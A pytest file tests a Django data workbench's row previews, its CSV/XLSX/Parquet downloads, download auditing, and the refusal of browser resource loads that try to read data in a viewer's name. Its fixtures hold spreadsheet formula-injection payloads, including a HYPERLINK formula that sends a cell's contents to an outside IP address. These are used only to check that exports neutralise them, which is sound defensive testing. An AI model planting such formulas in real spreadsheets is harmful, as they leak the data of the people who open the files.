"""Preview and downloads: paginated rows, CSV/XLSX with spreadsheet formulas neutralised, Parquet as stored."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

pytestmark = pytest.mark.django_db

DANGEROUS = ['=HYPERLINK("http://x")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "plain"]


@pytest.fixture
def version(uploaded):
    frame = pd.DataFrame({"label": DANGEROUS * 10, "amount": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0] * 10})
    return uploaded(frame.to_csv(index=False).encode())


def test_a_column_name_that_is_a_formula_is_neutralised_in_csv_and_xlsx(api, uploaded):
    frame = pd.DataFrame({'=HYPERLINK("http://203.0.113.7/?"&A2,"x")': ["a", "b"], "n": [1, 2]})
    version = uploaded(frame.to_csv(index=False).encode())
    response = api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=csv")
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert header[0].startswith("'=") and header[1] == "n"
    response = api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert str(sheet.cell(row=1, column=1).value).startswith("'=") and sheet.cell(row=1, column=1).data_type == "s"


def test_csv_download_neutralises_formulas(api, version):
    response = api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=csv")
    assert response["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    labels = [row[0] for row in rows[1:7]]
    assert labels == ['\'=HYPERLINK("http://x")', "'+1+2", "'-2+3", "'@SUM(A1)", "'\tcmd", "plain"]
    assert rows[1][1] == "-1.5"  # numbers are numbers, not text


def test_xlsx_download_neutralises_formulas(api, version):
    response = api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [row[0] for row in sheet.iter_rows(min_row=2, max_row=7, values_only=True)]
    assert all(not str(v).startswith(("=", "+", "-", "@")) for v in values)
    assert sheet.cell(row=2, column=2).value == -1.5


def test_parquet_download_is_the_table(api, version):
    response = api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=parquet")
    table = pd.read_parquet(io.BytesIO(b"".join(response.streaming_content)))
    assert table["label"].tolist()[:6] == DANGEROUS


def test_an_unknown_format_is_a_clear_error(api, version):
    response = api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=pdf")
    assert response.status_code == 400
    assert "csv, xlsx or parquet" in response.json()["error"]


def test_preview_pages(api, version):
    first = api("alice", "get", f"/api/v1/versions/{version.pk}/preview?page=1&page_size=25").json()
    last = api("alice", "get", f"/api/v1/versions/{version.pk}/preview?page=3&page_size=25").json()
    assert first["pages"] == 3 and first["total_rows"] == 60
    assert len(first["rows"]) == 25 and len(last["rows"]) == 10
    assert first["columns"] == ["label", "amount"]
    assert (first["first_row"], last["first_row"]) == (1, 51)
    bad = api("alice", "get", f"/api/v1/versions/{version.pk}/preview?page=x")
    assert bad.status_code == 400


def test_downloads_are_audited(api, version):
    from workbench.audit.models import AuditEvent

    b"".join(api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=csv").streaming_content)
    event = AuditEvent.objects.filter(action="version.download").get()
    assert event.actor_name == "alice" and event.details == {"format": "csv", "tier": "RAW"}


@pytest.mark.parametrize("destination", ["image", "style", "font", "script", "iframe"])
def test_a_page_resource_load_cannot_read_a_preview_or_a_download_in_the_viewers_name(client, users, version, destination):
    """A chart or a label that slipped markup into a page would make the viewer's browser load these addresses as an
    image or a style: refused before the view runs, so nothing is decrypted, exported or audited in their name. The
    same addresses opened by the viewer (a navigation, htmx) work."""
    from workbench.audit.models import AuditEvent

    client.force_login(users["alice"])
    headers = {"Sec-Fetch-Dest": destination, "Sec-Fetch-Mode": "no-cors"}
    for url in (f"/v/{version.pk}/download?format=csv", f"/v/{version.pk}/preview?page=2", f"/api/v1/versions/{version.pk}/preview"):
        response = client.get(url, headers=headers)
        assert response.status_code == 403, url
    assert not AuditEvent.objects.filter(action__in=["version.download", "version.preview"]).exists()
    assert client.get(f"/v/{version.pk}/preview?page=2", headers={"HX-Request": "true", "Sec-Fetch-Dest": "empty"}).status_code == 200
    assert client.get(f"/v/{version.pk}/download?format=csv", headers={"Sec-Fetch-Dest": "document"}).status_code == 200
    assert client.get("/static/js/app.js", headers={"Sec-Fetch-Dest": "script"}).status_code in (200, 304, 404)
